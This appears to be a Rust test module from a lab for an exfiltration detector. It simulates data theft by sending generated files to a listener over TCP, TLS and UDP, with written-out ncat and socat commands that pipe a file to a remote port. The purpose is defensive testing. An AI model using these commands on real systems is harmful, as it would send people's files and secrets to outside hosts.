//! Uploads without any protocol that the port would suggest.

use std::fs;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Result, ensure};
use detector_tests::{poll_until, wait_for_tcp_listener, wait_for_udp_listener};

use super::size_and_rate;
use crate::random::Random;
use crate::scene::{Outcome, Scene, ensure_arrived};

const START: Duration = Duration::from_secs(10);
const PORTS: [u16; 5] = [4444, 1337, 9001, 8443, 5555];

/// `ncat` or `socat`, straight from a file.
pub(crate) fn tcp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, _) = size_and_rate(random, 20_000, 40_000_000);
    let port = *random.pick(&PORTS);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let receiver = format!("TCP6-LISTEN:{port},ipv6only=0,reuseaddr");
    let _receiver = scene.internet().spawn("socat", ["-u", &receiver, &opened(scene)])?;
    wait_for_tcp_listener(scene.internet(), port, START)?;
    if random.chance(0.5) {
        scene
            .run("sh", &["-c", &format!("ncat --send-only {} {port} < {file}", target.address)])?;
    } else {
        scene.run(
            "socat",
            &[
                "-u",
                &format!("OPEN:{file}"),
                &format!("TCP:{}", SocketAddr::new(target.address, port)),
            ],
        )?;
    }
    wait_for(scene, size)?;
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(port))?,
        size,
        format!("{size} bytes to {}:{port}", target.address),
    ))
}

/// The same inside TLS that names no host.
pub(crate) fn tls(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, _) = size_and_rate(random, 20_000, 30_000_000);
    let port = *random.pick(&[4444_u16, 8443, 9001]);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let certificate = format!(
        "cert={},key={},verify=0",
        scene.shared.path("tls.crt"),
        scene.shared.path("tls.key")
    );
    let receiver = format!("OPENSSL-LISTEN:{port},pf=ip6,ipv6only=0,reuseaddr,{certificate}");
    let _receiver = scene.internet().spawn("socat", ["-u", &receiver, &opened(scene)])?;
    wait_for_tcp_listener(scene.internet(), port, START)?;
    // Both directions, and time to end: ncat closes with the server's session tickets unread, and the
    // reset that follows takes the last blocks with it.
    let sender = format!("OPENSSL:{},verify=0", SocketAddr::new(target.address, port));
    scene.run("socat", &["-t", "20", &format!("OPEN:{file},rdonly!!OPEN:/dev/null"), &sender])?;
    wait_for(scene, size)?;
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(port))?,
        size,
        format!("{size} bytes to {}:{port}", target.address),
    ))
}

/// Datagrams, at a steady rate and without repetition.
pub(crate) fn udp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let datagram = random.between(300, 1_400) as usize;
    let count = random.between(60, 2_500) as usize;
    let port = *random.pick(&[4444_u16, 9001, 5004, 33_333]);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(datagram * count))?;
    let _receiver = scene.internet().spawn(
        "socat",
        ["-u", &format!("UDP6-RECV:{port},ipv6only=0,rcvbuf=4000000"), &opened(scene)],
    )?;
    wait_for_udp_listener(scene.internet(), port, START)?;
    // At most 6 Mbit/s, which every line of the lab carries.
    let fastest = datagram as f64 * 8.0 / 6e6;
    let pause = random.log_uniform(fastest, (8.0 / count as f64).max(fastest * 1.1));
    let arguments = [
        target.address.to_string(),
        port.to_string(),
        file,
        datagram.to_string(),
        pause.to_string(),
    ];
    scene.run_script("udp.py", &arguments)?;
    std::thread::sleep(Duration::from_secs(1));
    let arrived = received(scene);
    ensure!(
        arrived * 100 >= datagram * count * 95,
        "{} bytes were sent and {arrived} arrived",
        datagram * count
    );
    Ok(Outcome::stolen(
        scene.culprit(&target, "udp", Some(port))?,
        arrived,
        format!("{count} datagrams of {datagram} bytes to {}:{port}", target.address),
    ))
}

fn opened(scene: &Scene<'_>) -> String {
    format!("OPEN:{},creat", scene.inbox("got").display())
}

fn received(scene: &Scene<'_>) -> usize {
    fs::metadata(scene.inbox("got")).map_or(0, |file| file.len() as usize)
}

fn wait_for(scene: &Scene<'_>, size: usize) -> Result<()> {
    poll_until(START, || (received(scene) >= size).then_some(())).ok();
    ensure_arrived(size, received(scene))
}
